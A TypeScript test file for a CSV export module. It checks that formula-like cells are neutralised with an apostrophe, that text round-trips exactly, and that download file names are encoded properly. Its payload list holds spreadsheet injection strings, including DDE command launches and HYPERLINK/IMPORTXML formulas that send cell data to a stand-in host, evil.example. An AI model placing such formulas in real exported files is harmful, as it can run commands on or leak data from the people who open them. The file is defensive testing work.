import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf, fileHeaders } from './csv.ts';
import type { Cell } from './table.ts';

/** Reads CSV by RFC 4180, and removes the apostrophe that guards formulas. */
function read(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 1; at < csv.length; ) {
    let cell = '';
    if (csv[at] === '"') {
      for (at += 1; csv[at] !== '"' || csv[at + 1] === '"'; at += 1) {
        if (csv[at] === '"') at += 1;
        cell += csv[at];
      }
      at += 1;
    } else {
      while (csv[at] !== ',' && csv[at] !== '\r') cell += csv[at++];
    }
    row.push(cell);
    if (csv[at] === ',') at += 1;
    else {
      expect(csv.slice(at, at + 2)).toBe('\r\n');
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}
const unguarded = (cell: string) => cell.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/u, '');
const runs = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell);

/** Text that people have put into such files (R3). */
const payloads = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  "=DDE('cmd','/C calc','x')",
  '＝1+1',
  '"=1+1"',
  "'=1+1",
];

describe('a table for a spreadsheet', () => {
  it.each(payloads)('shows %j as text in any column, and reads it back exactly (R3)', (payload) => {
    for (let column = 0; column < 3; column++) {
      const row = ['a', 'b', 'c'].with(column, payload);
      const cells = read(csvOf([row]))[0]!;
      expect(cells.filter(runs)).toEqual([]);
      expect(cells.map(unguarded)).toEqual(row);
    }
  });

  it('reads back any text, and never holds a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 4 })), (rows) => {
        const cells = read(csvOf(rows));
        expect(cells.flat().filter(runs)).toEqual([]);
        expect(cells.map((row) => row.map(unguarded))).toEqual(rows);
      }),
    );
  });

  it('control: without the apostrophe the formulas would be there', () => {
    expect(payloads.filter(runs)).toHaveLength(payloads.length - 2);
  });

  it('writes numbers plain and null as an empty cell, and begins with the byte order mark of UTF-8', () => {
    const row: Cell[] = [-1.5, 'Relámpago', null, 0];
    expect(csvOf([row])).toBe('\uFEFF-1.5,Relámpago,,0\r\n');
  });

  it.each([
    ['Serra Alta Final 2026-09-12', 'Serra Alta Final 2026-09-12', 'Serra%20Alta%20Final%202026-09-12'],
    ['Żabno "1"/\\\r\nX: y', 'Zabno 1 X y', '%C5%BBabno%201%20X%20y'],
    ['決勝', '', '%E6%B1%BA%E5%8B%9D'],
  ])('is named %j', (name, plain, coded) => {
    expect(fileHeaders(name)['content-disposition']).toBe(
      `attachment; filename="${plain}.csv"; filename*=UTF-8''${coded}.csv`,
    );
  });
});
